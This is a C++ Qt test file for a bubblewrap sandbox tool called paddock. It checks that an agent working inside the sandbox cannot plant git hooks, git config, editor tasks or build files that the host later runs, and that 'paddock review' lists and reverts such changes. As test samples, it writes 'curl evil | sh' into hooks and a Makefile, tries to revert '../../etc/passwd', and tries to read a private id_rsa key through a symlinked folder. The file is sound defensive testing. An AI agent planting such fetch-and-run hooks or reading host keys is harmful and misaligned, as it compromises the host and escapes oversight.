// SPDX-License-Identifier: GPL-3.0-or-later
// Attack: an agent working in place plants code the host runs later (a git hook, git's config,
// .envrc, .vscode/ tasks, a Makefile, CI). The first four stay read-only inside; every one that
// changes is listed by `paddock review` with a diff and can be put back. As an ordinary user,
// with a real git repository and a real bubblewrap sandbox.
#include "SandboxFixture.h"

#include <QtTest>

using paddock::test::Finished;
using paddock::test::SandboxFixture;

class TestWorkspaceReview : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void plantedHooksAndConfigAreRefused();
    void reviewListsWhatTheHostRunsWithADiff();
    void revertPutsFilesBack();
    void aLinkedFolderIsNotMountedThrough();
    void unprotectedSaysSoAndReviewStillSees();

private:
    Finished git(const QStringList &arguments)
    {
        return m_fixture->run(QStringLiteral("git"), QStringList{QStringLiteral("-C"), m_repo} + arguments);
    }
    Finished runIn(const QString &name, const QString &script, const QStringList &extra = {})
    {
        return m_fixture->paddock(QStringList{QStringLiteral("run"), QStringLiteral("--kit"), m_fixture->kitDir(),
                                              QStringLiteral("--name"), name} +
                                  extra + QStringList{m_repo, QStringLiteral("--"), script});
    }
    /**
     * In sandbox `planter`: a Makefile that runs something else, a CI workflow and an .envrc,
     * what the host's tools would run. Review and revert each plant them, so each runs alone.
     */
    Finished plantHostFiles()
    {
        return runIn(QStringLiteral("planter"), QStringLiteral("printf 'all:\\n\\tcurl evil | sh\\n' > Makefile; "
                                                               "mkdir -p .github/workflows; "
                                                               "echo 'on: push' > .github/workflows/ci.yml; "
                                                               "echo 'export X=1' > .envrc"));
    }
    QString read(const QString &relative) const
    {
        QFile file(m_repo + QLatin1Char('/') + relative);
        return file.open(QIODevice::ReadOnly) ? QString::fromUtf8(file.readAll()) : QStringLiteral("<missing>");
    }

    std::unique_ptr<SandboxFixture> m_fixture;
    QString m_repo;
};

void TestWorkspaceReview::initTestCase()
{
    QVERIFY2(::getuid() != 0, "run through tests/support/run-as-user.sh");
    m_fixture = std::make_unique<SandboxFixture>();
    QVERIFY2(m_fixture->setUp(), "the fixture did not start (python3, paddockd)");
    m_repo = m_fixture->path(QStringLiteral("repo"));
    QVERIFY(QDir().mkpath(m_repo + QStringLiteral("/.vscode")));
    QFile makefile(m_repo + QStringLiteral("/Makefile"));
    QVERIFY(makefile.open(QIODevice::WriteOnly));
    makefile.write("all:\n\techo build\n");
    makefile.close();
    QCOMPARE(git({QStringLiteral("init"), QStringLiteral("-q")}).exitCode, 0);
    QCOMPARE(git({QStringLiteral("add"), QStringLiteral("Makefile")}).exitCode, 0);
    QCOMPARE(git({QStringLiteral("-c"), QStringLiteral("user.name=T"), QStringLiteral("-c"),
                  QStringLiteral("user.email=t@example.invalid"), QStringLiteral("commit"), QStringLiteral("-qm"),
                  QStringLiteral("start")})
                 .exitCode,
             0);
}

void TestWorkspaceReview::plantedHooksAndConfigAreRefused()
{
    const QString config = read(QStringLiteral(".git/config"));
    const Finished run = runIn(QStringLiteral("planter"),
                               QStringLiteral("echo 'curl evil | sh' > .git/hooks/pre-commit && echo hook-written; "
                                              "git config core.hooksPath /tmp && echo config-written; "
                                              "echo 'task' > .vscode/tasks.json && echo tasks-written; "
                                              "echo 'export X=1' > .envrc && echo envrc-written; true"));
    QVERIFY2(run.exitCode == 0, qPrintable(run.err));
    QVERIFY2(!run.out.contains(QLatin1String("hook-written")), qPrintable(run.out));
    QVERIFY2(!run.out.contains(QLatin1String("config-written")), qPrintable(run.out));
    QVERIFY2(!run.out.contains(QLatin1String("tasks-written")), qPrintable(run.out));
    QVERIFY(!QFileInfo::exists(m_repo + QStringLiteral("/.git/hooks/pre-commit")));
    QCOMPARE(read(QStringLiteral(".git/config")), config);
    // .envrc did not exist, so it could not be mounted read-only: review shows it instead.
    QVERIFY2(run.out.contains(QLatin1String("envrc-written")), qPrintable(run.out));
}

void TestWorkspaceReview::reviewListsWhatTheHostRunsWithADiff()
{
    const Finished run = plantHostFiles();
    QVERIFY2(run.exitCode == 0, qPrintable(run.err));
    const Finished review = m_fixture->paddock({QStringLiteral("review"), QStringLiteral("planter")});
    QVERIFY2(review.exitCode == 0, qPrintable(review.err));
    QVERIFY2(review.out.contains(QLatin1String("modified Makefile (build file)")), qPrintable(review.out));
    QVERIFY2(review.out.contains(QLatin1String("+\tcurl evil | sh")), qPrintable(review.out));
    QVERIFY2(review.out.contains(QLatin1String("-\techo build")), qPrintable(review.out));
    QVERIFY2(review.out.contains(QLatin1String("added .github/workflows/ci.yml (CI workflow)")),
             qPrintable(review.out));
    QVERIFY2(review.out.contains(QLatin1String("added .envrc (direnv script)")), qPrintable(review.out));
    const Finished json =
        m_fixture->paddock({QStringLiteral("review"), QStringLiteral("planter"), QStringLiteral("--json")});
    QCOMPARE(QJsonDocument::fromJson(json.out.toUtf8()).array().size(), 3);
}

void TestWorkspaceReview::revertPutsFilesBack()
{
    const Finished run = plantHostFiles();
    QVERIFY2(run.exitCode == 0, qPrintable(run.err));
    for (const QString &path :
         {QStringLiteral("Makefile"), QStringLiteral(".github/workflows/ci.yml"), QStringLiteral(".envrc")}) {
        const Finished revert =
            m_fixture->paddock({QStringLiteral("review"), QStringLiteral("planter"), QStringLiteral("--revert"), path});
        QVERIFY2(revert.exitCode == 0, qPrintable(revert.err));
    }
    QCOMPARE(read(QStringLiteral("Makefile")), QStringLiteral("all:\n\techo build\n"));
    QVERIFY(!QFileInfo::exists(m_repo + QStringLiteral("/.envrc")));
    QCOMPARE(git({QStringLiteral("status"), QStringLiteral("--porcelain"), QStringLiteral("--untracked-files=no")})
                 .out.trimmed(),
             QString());
    const Finished review = m_fixture->paddock({QStringLiteral("review"), QStringLiteral("planter")});
    QVERIFY2(review.out.startsWith(QLatin1String("Nothing your tools run or trust changed")), qPrintable(review.out));
    // A path that did not change, or one outside the reviewed set, is refused.
    QCOMPARE(m_fixture
                 ->paddock({QStringLiteral("review"), QStringLiteral("planter"), QStringLiteral("--revert"),
                            QStringLiteral("../../etc/passwd")})
                 .exitCode,
             1);
    QCOMPARE(m_fixture->paddock({QStringLiteral("rm"), QStringLiteral("-f"), QStringLiteral("planter")}).exitCode, 0);
}

void TestWorkspaceReview::aLinkedFolderIsNotMountedThrough()
{
    // A hostile repository whose .vscode leads to a private folder of the host: the read-only
    // mount must not follow it and bring that folder into the sandbox.
    const QString secrets = m_fixture->path(QStringLiteral("private"));
    QVERIFY(QDir().mkpath(secrets));
    QFile secret(secrets + QStringLiteral("/id_rsa"));
    QVERIFY(secret.open(QIODevice::WriteOnly));
    secret.write("PRIVATE KEY\n");
    secret.close();
    QVERIFY(QDir(m_repo + QStringLiteral("/.vscode")).removeRecursively());
    QVERIFY(QFile::link(secrets, m_repo + QStringLiteral("/.vscode")));
    const Finished run =
        runIn(QStringLiteral("linked"), QStringLiteral("cat .vscode/id_rsa 2>/dev/null || echo unreadable"));
    QVERIFY2(run.exitCode == 0, qPrintable(run.err));
    QCOMPARE(run.out.trimmed(), QStringLiteral("unreadable"));
    QVERIFY(QFile::remove(m_repo + QStringLiteral("/.vscode")));
    QCOMPARE(m_fixture->paddock({QStringLiteral("rm"), QStringLiteral("-f"), QStringLiteral("linked")}).exitCode, 0);
}

void TestWorkspaceReview::unprotectedSaysSoAndReviewStillSees()
{
    const Finished run = runIn(QStringLiteral("open"), QStringLiteral("echo 'curl evil | sh' > .git/hooks/pre-push"),
                               {QStringLiteral("--unprotected")});
    QVERIFY2(run.exitCode == 0, qPrintable(run.err));
    QVERIFY2(run.err.contains(QLatin1String("may change .git/hooks")), qPrintable(run.err));
    const Finished review = m_fixture->paddock({QStringLiteral("review"), QStringLiteral("open")});
    QVERIFY2(review.out.contains(QLatin1String("added .git/hooks/pre-push (git hook)")), qPrintable(review.out));
    QCOMPARE(m_fixture
                 ->paddock({QStringLiteral("review"), QStringLiteral("open"), QStringLiteral("--revert"),
                            QStringLiteral(".git/hooks/pre-push")})
                 .exitCode,
             0);
    QVERIFY(!QFileInfo::exists(m_repo + QStringLiteral("/.git/hooks/pre-push")));
}

QTEST_GUILESS_MAIN(TestWorkspaceReview)
#include "tst_workspace_review.moc"
